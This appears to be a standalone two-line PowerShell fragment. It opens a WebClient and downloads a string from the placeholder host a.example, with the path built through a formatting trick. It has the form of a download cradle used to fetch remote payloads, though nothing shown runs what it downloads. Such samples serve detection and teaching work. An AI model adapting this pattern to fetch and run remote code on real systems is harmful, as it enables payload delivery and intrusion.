$wc = New-Object System.Net.WebClient
$wc.DownloadString(('http://a.example/{0,3}' -f 7).Replace(' ','_'))
